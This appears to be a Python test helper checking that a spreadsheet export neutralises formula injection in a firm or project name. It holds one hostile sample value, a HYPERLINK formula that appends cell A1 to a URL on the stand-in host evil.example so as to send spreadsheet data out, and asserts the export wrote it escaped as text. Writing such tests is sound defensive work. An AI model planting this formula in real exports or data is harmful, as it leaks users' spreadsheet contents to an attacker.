"""A firm or project name that a spreadsheet would run as a formula, and the check that an
export wrote it as inert text."""

import io

import polars as pl

FORMULA_NAME = '=HYPERLINK("http://evil.example/?d="&A1,"点击查看")'


def exported_column(response, column: str) -> list:
    assert response["Content-Type"].startswith("application/vnd.openxmlformats")
    frame = pl.read_excel(io.BytesIO(response.content))
    if column not in frame.columns:  # a list laid out to publish starts under its title row
        frame = pl.read_excel(io.BytesIO(response.content), read_options={"header_row": 1})
    return frame[column].to_list()


def assert_inert(values: list) -> None:
    assert "'" + FORMULA_NAME in values
    assert FORMULA_NAME not in values
